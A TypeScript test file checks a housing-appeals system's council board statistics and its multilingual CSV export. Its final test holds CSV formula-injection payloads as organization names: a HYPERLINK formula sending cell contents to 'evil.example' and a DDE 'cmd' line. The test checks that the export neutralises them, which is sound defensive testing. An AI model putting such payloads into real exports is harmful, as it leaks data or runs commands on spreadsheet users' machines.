// The council's board and the CSV export against a district with two organizations and a known
// set of appeals, built once before the tests, which only read it. The appeals meant to pass
// their deadlines are taken under a six-second answer term (APPEAL_POLICY); those answered in time
// under the law's, so no answer races its deadline.
//
// What "answered late" can mean: when the organization's term passes unanswered the workflow
// escalates the appeal to the inspection, so the organization never answers late. The inspection
// gets a fresh term; when that passes too there is no higher level, and an answer given then is
// late (answeredInTime false) and still counted against the organization the appeal was about.
// So the share answered in time is in time / (answered + overdue unanswered): the appeals whose
// timeliness is known.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppealJson, AppealSummary, Board } from '../../domain/appeals/json.ts';
import { APPEAL_STATUSES, type AppealStatus } from '../../domain/appeals/types.ts';
import { tashkentDateTime } from '../../domain/calendar/working-days.ts';
import type { Language } from '../../domain/common/language.ts';
import { call, ok, problem, until } from '../register/api-fixtures.ts';
import {
  type AppealsEnv,
  act,
  addOrganization,
  get,
  inStatus,
  newScene,
  type Scene,
  SECOND_IN_DAYS,
  startAppealsEnv,
  submit,
  withPolicy,
} from './fixtures.ts';

const TERM_SECONDS = 6;

// Long enough that answered appeals stay answered while the tests run.
const DISPUTE = { disputeDays: 1, reminderHoursBeforeDue: [] };

let env: AppealsEnv;
/** The same workers under the law's answer term. */
let inTime: AppealsEnv;
/** Organization A; its district's council and inspector tokens are the board's readers. */
let a: Scene;
/** Organization B, in the same district. */
let b: Scene;
/** The known set: a1–a4 about A, b1–b3 about B. */
const ids: Record<string, string> = {};
let b2: AppealJson;

async function answeredInTime(s: Scene, body: Record<string, unknown> = {}): Promise<AppealJson> {
  const x = await submit(inTime, s, body);
  await ok(await act(inTime, s.staff, x.id, 'accept'));
  const done = await ok<AppealJson>(await act(inTime, s.staff, x.id, 'answer', { text: 'Done.' }));
  expect(done.status).toBe('answered');
  return done;
}

/** Past the organization's term and then the inspection's: escalated and overdue at the top. */
const overdueAtInspection = (id: string) =>
  until(
    `appeal ${id} overdue at the inspection`,
    async () => {
      const x = await get(env, a.org.tokens.council, id);
      return x.status === 'escalated' && x.overdue ? x : undefined;
    },
    4 * TERM_SECONDS * 1000,
  );

beforeAll(async () => {
  env = await startAppealsEnv({ answerDays: TERM_SECONDS * SECOND_IN_DAYS, ...DISPUTE });
  inTime = await withPolicy(env, DISPUTE);
  a = await newScene(env);
  b = await addOrganization(env, a);
  const [a1, a2, a3, a4, b1, b3] = await Promise.all([
    answeredInTime(a),
    // Answered in time, then accepted by the applicant: closed, and still answered in time.
    answeredInTime(a).then(async (x) => {
      await ok(await act(inTime, a.owner, x.id, 'acceptance', { rating: 5 }));
      return x;
    }),
    submit(env, a),
    submit(env, a),
    answeredInTime(b),
    answeredInTime(b, { category: 'common_property' }),
  ]);
  // Taken for additional study: the month-long term, so open but not overdue.
  const studied = await submit(inTime, b);
  await ok(await act(inTime, b.staff, studied.id, 'accept'));
  b2 = await ok<AppealJson>(await act(inTime, b.staff, studied.id, 'study', { reason: 'An expert check' }));
  Object.assign(ids, { a1: a1.id, a2: a2.id, a3: a3.id, a4: a4.id, b1: b1.id, b2: b2.id, b3: b3.id });

  // a3 and a4 pass the organization's term and the inspection's; the inspection then answers a3.
  await inStatus(env, a.org.tokens.inspector, a3.id, 'escalated', 3 * TERM_SECONDS * 1000);
  await Promise.all([overdueAtInspection(a3.id), overdueAtInspection(a4.id)]);
  await ok(await act(env, a.org.tokens.inspector, a3.id, 'accept'));
  const late = await ok<AppealJson>(
    await act(env, a.org.tokens.inspector, a3.id, 'answer', { text: 'Late, but repaired.' }),
  );
  expect(late).toMatchObject({ status: 'answered', level: 'inspection' });
}, 180_000);
afterAll(async () => {
  await inTime?.stop();
  await env?.stop();
});

const council = (path: string) => call(env.app, 'GET', path, { token: a.org.tokens.council });

const summaries = async () =>
  (
    await ok<{ items: AppealSummary[] }>(
      await council(`/appeals?districtId=${a.org.districtId}&pageSize=200`),
    )
  ).items;

const hours = (x: AppealSummary) => (Date.parse(x.answeredAt!) - Date.parse(x.receivedAt)) / 3_600_000;

/** percentile_cont(0.5): the middle value, or the mean of the middle two. */
function median(values: number[]): number {
  const v = [...values].sort((p, q) => p - q);
  const mid = Math.floor(v.length / 2);
  return v.length % 2 ? v[mid]! : (v[mid - 1]! + v[mid]!) / 2;
}

/** A tiny RFC 4180 reader: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += ch;
  }
  if (field !== '' || row.length) rows.push([...row, field]);
  return rows;
}

/** The export's columns, in order, by the names the assertions use. */
const KEYS = [
  'registration_number',
  'category',
  'kind',
  'status',
  'level',
  'responsible',
  'received_at',
  'registered_on',
  'due_last_day',
  'overdue',
  'answered_at',
];
const HEADERS: Record<Language, string[]> = {
  en: [
    'Registration number',
    'Category',
    'Kind',
    'Status',
    'Level',
    'Responsible',
    'Received (Tashkent time)',
    'Registered on',
    'Answer due by',
    'Overdue',
    'Answered (Tashkent time)',
  ],
  uz: [
    'Roʻyxat raqami',
    'Mavzu',
    'Turi',
    'Holati',
    'Daraja',
    'Javobgar',
    'Qabul qilingan (Toshkent vaqti)',
    'Roʻyxatga olingan kun',
    'Javob muddati',
    'Muddati oʻtgan',
    'Javob berilgan (Toshkent vaqti)',
  ],
  ru: [
    'Регистрационный номер',
    'Тема',
    'Вид',
    'Статус',
    'Уровень',
    'Ответственный',
    'Получено (время Ташкента)',
    'Дата регистрации',
    'Срок ответа',
    'Просрочено',
    'Дан ответ (время Ташкента)',
  ],
};

/** The export in a language asked for by Accept-Language (as the widgets ask) or by `?lang=`. */
async function exportCsv(token: string, query = '', o: { lang?: Language; by?: 'header' | 'query' } = {}) {
  const lang = o.lang ?? 'en';
  const sep = query ? '&' : '?';
  const url = `/api/v1/appeals/export.csv${query}${o.by === 'query' ? `${sep}lang=${lang}` : ''}`;
  const headers: Record<string, string> = { Authorization: `Bearer ${token}` };
  if (o.by !== 'query') headers['Accept-Language'] = `${lang},en;q=0.5`;
  const res = await env.app.app.request(url, { headers });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('content-disposition')).toContain('appeals.csv');
  const bytes = new Uint8Array(await res.arrayBuffer());
  // The BOM makes spreadsheet programs read the Uzbek letters as UTF-8; res.text() would hide it.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header, ...rows] = parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1));
  expect(header).toEqual(HEADERS[lang]);
  return rows.map((r) => Object.fromEntries(KEYS.map((h, i) => [h, r[i]])) as Record<string, string>);
}

describe('the council board and the export', () => {
  it('a known district: figures per status and per organization', async () => {
    expect(b2).toMatchObject({ status: 'in_progress', overdue: false });
    expect(await get(env, a.owner, ids.a2!)).toMatchObject({ status: 'closed' });

    const board = await ok<Board>(await council(`/appeals/board?districtId=${a.org.districtId}`));
    const counts = Object.fromEntries(APPEAL_STATUSES.map((st) => [st, 0])) as Record<AppealStatus, number>;
    Object.assign(counts, { answered: 4, closed: 1, escalated: 1, in_progress: 1 });
    expect(board).toMatchObject({ districtId: a.org.districtId, counts, overdue: 1 });
    expect(board.organizations).toHaveLength(2);
    // The inspector and an admin read the same figures.
    for (const token of [a.org.tokens.inspector, a.org.tokens.admin])
      expect(
        await ok<Board>(
          await call(env.app, 'GET', `/appeals/board?districtId=${a.org.districtId}`, { token }),
        ),
      ).toEqual(board);

    const list = await summaries();
    const byId = new Map(list.map((x) => [x.id, x]));
    const medianOf = (keys: string[]) => median(keys.map((k) => hours(byId.get(ids[k]!)!)));
    const figures = (orgId: string) => board.organizations.find((o) => o.organizationId === orgId)!;
    // A: a1 and a2 in time, a3 answered late by the inspection, a4 overdue unanswered.
    expect(figures(a.org.id)).toMatchObject({
      total: 4,
      answered: 3,
      answeredInTime: 2,
      shareAnsweredInTime: 2 / (3 + 1),
    });
    // B: b1 and b3 in time; b2 is open within its term, so its timeliness is not yet known.
    expect(figures(b.org.id)).toMatchObject({
      total: 3,
      answered: 2,
      answeredInTime: 2,
      shareAnsweredInTime: 1,
    });
    // The board rounds hours to hundredths; the list's instants are the same columns to the
    // millisecond, so recomputing from them may differ only by that rounding: within 0.01 h.
    expect(
      Math.abs(figures(a.org.id).medianHoursToAnswer! - medianOf(['a1', 'a2', 'a3'])),
    ).toBeLessThanOrEqual(0.01);
    expect(Math.abs(figures(b.org.id).medianHoursToAnswer! - medianOf(['b1', 'b3']))).toBeLessThanOrEqual(
      0.01,
    );
    // a3 took at least the two terms, the others well under a second each: the median is a2's or
    // a1's, not a3's, which is what a median is for.
    expect(hours(byId.get(ids.a3!)!)).toBeGreaterThan((2 * TERM_SECONDS) / 3600);
    expect(figures(a.org.id).medianHoursToAnswer).toBeLessThan(0.01);
  });

  it('medians over answers hours apart, the even count interpolated', async () => {
    // A district of its own: the known set above stays as the other tests read it.
    const c = await newScene(env);
    const d = await addOrganization(env, c);
    const answered = await Promise.all([
      ...[2, 5, 30].map(async (h) => ({ h, x: await answeredInTime(c) })),
      ...[1.5, 4].map(async (h) => ({ h, x: await answeredInTime(d) })),
    ]);
    // The workflow runs in seconds, which rounding to hundredths of an hour erases; moving the
    // receipt of the answered appeals back by whole hours gives the median something to show.
    // The board reads only these columns, so nothing else about the appeals changes.
    const conn = env.em().getConnection();
    for (const { h, x } of answered)
      await conn.execute(
        `update appeal set received_at = answered_at - make_interval(secs => ?) where id = ?`,
        [h * 3600, x.id],
      );
    const board = await ok<Board>(
      await call(env.app, 'GET', `/appeals/board?districtId=${c.org.districtId}`, {
        token: c.org.tokens.council,
      }),
    );
    const figures = (orgId: string) => board.organizations.find((o) => o.organizationId === orgId)!;
    expect(figures(c.org.id).medianHoursToAnswer).toBe(5);
    expect(figures(d.org.id).medianHoursToAnswer).toBe(2.75);
  });

  it('exports one row per appeal the caller may see, with the list’s filters', async () => {
    const all = await exportCsv(a.org.tokens.council, `?districtId=${a.org.districtId}`);
    const list = await summaries();
    expect(all.map((r) => r.registration_number).sort()).toEqual(
      list.map((x) => x.registrationNumber).sort(),
    );
    expect(all).toHaveLength(7);
    const row = (id: string, rows = all) =>
      rows.find((r) => r.registration_number === list.find((x) => x.id === id)!.registrationNumber)!;
    const summary = (id: string) => list.find((x) => x.id === id)!;
    expect(row(ids.a4!)).toMatchObject({
      status: 'Escalated to the inspection',
      level: 'Inspection',
      overdue: 'yes',
      answered_at: '',
      category: 'Heating',
      kind: 'Complaint',
    });
    expect(row(ids.a3!)).toMatchObject({ status: 'Answered', level: 'Inspection', overdue: 'no' });
    // Times are Tashkent's wall clock; days are the list's own dates.
    expect(row(ids.a3!).answered_at).toBe(tashkentDateTime(Date.parse(summary(ids.a3!).answeredAt!)));
    expect(row(ids.a3!).received_at).toBe(tashkentDateTime(Date.parse(summary(ids.a3!).receivedAt)));
    expect(row(ids.b2!)).toMatchObject({
      status: 'In progress',
      responsible: summary(ids.b2!).responsible.name,
      overdue: 'no',
      due_last_day: summary(ids.b2!).dates.dueLastDay,
    });
    for (const r of all) {
      const d = list.find((x) => x.registrationNumber === r.registration_number)!.dates;
      expect(r.received_at!.slice(0, 10)).toBe(d.receivedOn);
      expect(r.registered_on).toBe(
        d.registeredLater ? `${d.registeredOn} (next working day)` : d.registeredOn,
      );
      expect(r.answered_at!.slice(0, 10)).toBe(d.answeredOn ?? '');
    }

    const regs = (rows: Record<string, string>[]) => rows.map((r) => r.registration_number).sort();
    const numbers = (keys: string[]) =>
      keys.map((k) => list.find((x) => x.id === ids[k])!.registrationNumber).sort();
    const reader = a.org.tokens.council;
    expect(regs(await exportCsv(reader, '?status=answered'))).toEqual(numbers(['a1', 'a3', 'b1', 'b3']));
    expect(regs(await exportCsv(reader, `?organizationId=${b.org.id}`))).toEqual(numbers(['b1', 'b2', 'b3']));
    expect(regs(await exportCsv(reader, '?overdue=1'))).toEqual(numbers(['a4']));
    expect(regs(await exportCsv(reader, '?category=common_property'))).toEqual(numbers(['b3']));
    expect(regs(await exportCsv(reader, `?status=closed&organizationId=${a.org.id}`))).toEqual(
      numbers(['a2']),
    );
    // Each organization's staff export their own appeals, including those escalated away from them.
    expect(regs(await exportCsv(a.staff))).toEqual(numbers(['a1', 'a2', 'a3', 'a4']));
    expect(regs(await exportCsv(b.staff))).toEqual(numbers(['b1', 'b2', 'b3']));
    // Another district's council exports only the header.
    const outsider = await newScene(env);
    expect(await exportCsv(outsider.org.tokens.council, `?districtId=${a.org.districtId}`)).toEqual([]);
    await problem(await call(env.app, 'GET', '/appeals/export.csv', { token: a.owner }), 403, {
      detail: 'this endpoint is for: management_company, council, inspector, admin',
    });
  });

  it('exports in the reader’s language, from Accept-Language or ?lang=, without a code', async () => {
    const query = `?districtId=${a.org.districtId}`;
    const en = await exportCsv(a.org.tokens.council, query);
    for (const lang of ['uz', 'ru'] as const)
      for (const by of ['header', 'query'] as const) {
        const rows = await exportCsv(a.org.tokens.council, query, { lang, by });
        expect(rows).toHaveLength(en.length);
        for (const r of rows) {
          const cells = Object.values(r).join(' | ');
          expect(cells, `${lang} ${by}`).not.toMatch(/\b[a-z]+_[a-z_]+\b/);
          // Words an English export has that a translation must not keep (names and numbers aside).
          expect(cells, `${lang} ${by}`).not.toMatch(
            /\b(yes|no|Heating|Complaint|Answered|Inspection|In progress)\b/,
          );
          const same = en.find((x) => x.registration_number === r.registration_number)!;
          for (const k of ['received_at', 'due_last_day', 'answered_at', 'responsible'])
            expect(r[k], `${lang} ${k}`).toBe(same[k]);
        }
      }
    const uz = await exportCsv(a.org.tokens.council, query, { lang: 'uz' });
    expect(uz.find((r) => r.status === 'Inspeksiyaga oshirilgan')).toMatchObject({
      level: 'Inspeksiya',
      overdue: 'ha',
      category: 'Isitish',
    });
    // Without a language asked for, the state language.
    const res = await env.app.app.request(`/api/v1/appeals/export.csv${query}`, {
      headers: { Authorization: `Bearer ${a.org.tokens.council}` },
    });
    expect((await res.text()).split(/\r?\n/)[0]).toBe(HEADERS.uz.join(','));
  });

  it('never hands a spreadsheet a formula: a name beginning with =, +, - or @ comes out as text', async () => {
    // An organization chooses its own name, and an appeal names the organization it is about.
    const attacks = [
      '=HYPERLINK("http://evil.example/?d="&A2,"Batafsil")',
      "+998 cmd|' /C calc'!A0",
      '-1+1 Xizmat',
      '@SUM(1+1)',
    ];
    for (const name of attacks) {
      const s = await newScene(env);
      await env.em().execute('update management_organization set name = ? where id = ?', [name, s.org.id]);
      await submit(env, s);
      const rows = await exportCsv(s.org.tokens.council, `?districtId=${s.org.districtId}`, { lang: 'ru' });
      expect(rows.map((r) => r.responsible)).toEqual([`'${name}`]);
    }
  });
});
